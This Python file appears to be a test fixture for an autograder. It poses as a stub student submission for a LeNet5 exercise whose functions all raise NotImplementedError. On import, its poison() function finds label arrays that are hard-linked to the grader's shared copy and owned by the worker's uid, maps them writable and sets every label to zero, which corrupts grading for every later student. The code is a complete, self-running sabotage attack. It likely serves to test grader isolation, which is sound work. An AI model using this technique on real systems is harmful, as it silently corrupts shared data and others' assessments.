# expect: architecture=error parameters=failed layers=error n_classes=failed optimizer=error training_loop=error accuracy=error
"""Stubs base. Poisons every later grading of the batch: the job folder's training arrays are
hard links to the grader's one shared copy, so where that copy belongs to the worker's own uid
(a grader that is not root, whose workers run as itself), it opens them for writing and sets
every label to 0. Later students then train and are checked on labels that are all zero."""

import os

import numpy as np
from torch import nn

LABELS = ("train-labels.npy", "sample-labels.npy")

BATCH_SIZE = 64
EPOCHS = 1
LEARNING_RATE = 1e-3


class LeNet5(nn.Module):
    def __init__(self, n_classes):
        super().__init__()

    def forward(self, x):
        raise NotImplementedError("LeNet5.forward")


def make_optimizer(model):
    raise NotImplementedError("make_optimizer")


def train_one_epoch(model, loader, optimizer, loss_fn, device):
    raise NotImplementedError("train_one_epoch")


def evaluate(model, loader, device):
    raise NotImplementedError("evaluate")


def poison():
    done = []
    for name in LABELS:
        try:
            info = os.stat(name)
            if info.st_nlink < 2 or info.st_uid != os.getuid():
                continue
            labels = np.load(name, mmap_mode="r+")   # the shared inode itself, not a copy
            labels[:] = 0
            labels.flush()
            done.append(name)
        except (OSError, ValueError):
            continue
    print("poisoned:", done)


poison()
